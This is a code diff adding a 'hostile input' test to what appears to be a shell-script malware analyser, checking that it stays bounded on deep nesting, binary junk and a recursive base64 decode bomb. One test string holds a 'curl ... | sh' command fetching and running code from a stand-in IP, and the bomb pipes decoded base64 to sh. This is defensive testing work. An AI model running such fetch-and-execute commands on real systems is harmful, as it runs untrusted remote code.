@@ -218,3 +218,28 @@ describe('attribution', () => {
     assert.ok(a.rivals.families.has('kinsing'));
   });
 });
+
+describe('hostile input', () => {
+  it('stays bounded on nesting, binary junk and decode bombs', () => {
+    const nested = `${'$('.repeat(3000)}echo x${')'.repeat(3000)}\n`;
+    const subshells = `${'('.repeat(3000)}curl -s http://198.51.100.9/x | sh${')'.repeat(3000)}\n`;
+    const junk = Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 2654435761) & 0xff)).toString(
+      'latin1',
+    );
+    let bomb = 'echo hi';
+    for (let i = 0; i < 12; i++)
+      bomb = `echo ${Buffer.from(`${bomb}\n${bomb}`).toString('base64')} | base64 -d | sh`;
+    for (const src of [nested, subshells, junk, bomb]) {
+      let a: ReturnType<typeof analyseScript> | undefined;
+      try {
+        a = analyseScript(src, 'sh', iv);
+      } catch (e) {
+        // Only a stack overflow may escape (files.ts falls back to the line rules then).
+        assert.ok(e instanceof RangeError, String(e));
+        continue;
+      }
+      assert.ok(a.statements <= LIMITS.statements);
+      assert.ok(a.layers.reduce((n, l) => n + l.bytes, 0) <= LIMITS.decodedBytes);
+    }
+  });
+});
